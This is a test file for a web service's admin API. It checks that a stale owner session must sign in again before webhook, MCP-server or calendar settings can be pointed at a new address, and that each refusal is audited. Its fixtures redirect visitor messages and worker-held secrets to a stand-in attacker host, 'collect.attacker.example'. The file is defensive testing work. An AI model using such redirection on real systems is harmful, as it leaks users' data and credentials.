import { afterEach, describe, expect, it } from "vitest";
import { clearConfigCache } from "../../worker/config/config-store.ts";
import {
  accountsSite,
  ageSessions,
  auditOf,
  browserOf,
  json,
  member,
  passkeySignIn,
  withKey,
  type Browser,
} from "../helpers/worker/accounts.ts";

/**
 * Settings that make the worker send something to an address: a webhook endpoint (signed events carry
 * visitors' messages and contact details), the MCP servers and the calendar (the worker sends them a
 * secret it holds), and "Test connection" (the named secret, to the address in its body). Someone at an
 * owner's unattended laptop must not point them elsewhere: each asks for a sign-in within 10 minutes, as
 * an export does; the refusal is audited and changes nothing; the admin key in the header counts as one.
 */
afterEach(() => clearConfigCache());

const ELSEWHERE = "https://collect.attacker.example/in";
const calendar = { provider: "calcom", apiKeySecret: "CALCOM_API_KEY", eventTypeId: 4321, timeZone: "Europe/Berlin" };
const mcp = (url: string) => ({ id: "orders", url, auth: { secretName: "MCP_ORDERS_TOKEN" } });

interface Case {
  name: string;
  method: string;
  path: (endpoint: string) => string;
  body?: unknown;
  /** What a caller with a recent sign-in gets (the MCP test's address is refused before any request leaves). */
  ok: number;
  /** The audit action of the refusal. */
  audit: string;
  /** The state the refused call must leave as it was. */
  state?: string;
}

const CASES: Case[] = [
  {
    name: "adding a webhook endpoint",
    method: "POST",
    path: () => "/v1/admin/webhooks",
    body: { url: ELSEWHERE, events: ["message.created", "contact.left"] },
    ok: 201,
    audit: "settings.change",
    state: "/v1/admin/webhooks",
  },
  {
    name: "changing a webhook endpoint's address",
    method: "PUT",
    path: (endpoint) => `/v1/admin/webhooks/${endpoint}`,
    body: { url: ELSEWHERE, events: ["message.created"] },
    ok: 200,
    audit: "settings.change",
    state: "/v1/admin/webhooks",
  },
  {
    name: "changing the MCP servers",
    method: "PUT",
    path: () => "/v1/admin/mcp-servers",
    body: { servers: [mcp(ELSEWHERE)] },
    ok: 200,
    audit: "settings.change",
    state: "/v1/admin/mcp-servers",
  },
  {
    name: "testing an MCP server's connection",
    method: "POST",
    path: () => "/v1/admin/mcp-servers/test",
    body: { server: mcp("https://10.0.0.5/mcp") },
    ok: 400,
    audit: "permission.denied",
  },
  {
    name: "connecting the calendar",
    method: "PUT",
    path: () => "/v1/admin/booking",
    body: { ...calendar, baseUrl: "https://cal.attacker.example" },
    ok: 200,
    audit: "settings.change",
    state: "/v1/admin/booking",
  },
  {
    name: "disconnecting the calendar",
    method: "DELETE",
    path: () => "/v1/admin/booking",
    ok: 200,
    audit: "settings.change",
    state: "/v1/admin/booking",
  },
];

/** A site with one webhook endpoint, one MCP server and a calendar, set with the admin key. */
async function configured(): Promise<{ siteKey: string; endpoint: string }> {
  const siteKey = await accountsSite();
  const hook = await withKey(siteKey, "POST", "/v1/admin/webhooks", { url: "https://hooks.example.com/parley" });
  expect(hook.status).toBe(201);
  const servers = { servers: [mcp("https://mcp.example.com/mcp")] };
  expect((await withKey(siteKey, "PUT", "/v1/admin/mcp-servers", servers)).status).toBe(200);
  expect((await withKey(siteKey, "PUT", "/v1/admin/booking", calendar)).status).toBe(200);
  return { siteKey, endpoint: (await json(hook)).endpoint.id };
}

const send = (b: Browser, c: Case, endpoint: string) => b.send(c.method, c.path(endpoint), c.body);
const stateOf = async (siteKey: string, c: Case) => (c.state ? json(await withKey(siteKey, "GET", c.state)) : null);

describe("settings that send visitors' words or a worker secret to an address", () => {
  for (const c of CASES)
    it(`${c.name}: a stale owner session is asked to sign in again, a fresh one and the admin key are let through`, async () => {
      const { siteKey, endpoint } = await configured();
      const { browser: ana, passkey } = await member(siteKey, "owner", "Ana");
      await ageSessions(siteKey, ana.who.id);
      const before = await stateOf(siteKey, c);
      const refused = await send(ana, c, endpoint);
      expect({ status: refused.status, code: (await json(refused)).error?.code }).toEqual({
        status: 403,
        code: "reauth_required",
      });
      expect(await stateOf(siteKey, c)).toEqual(before);
      expect((await auditOf(siteKey, `action=${c.audit}`))[0]).toMatchObject({
        actorName: "Ana",
        outcome: "refused",
        code: "reauth_required",
      });
      // Her passkey again: the same call goes through.
      const again = await browserOf((await passkeySignIn(siteKey, passkey)).res);
      expect((await send(again, c, endpoint)).status).toBe(c.ok);
      // A script's admin key is shown with every call: it counts as a fresh sign-in.
      expect((await withKey(siteKey, c.method, c.path(endpoint), c.body)).status).toBe(c.ok);
    });
});
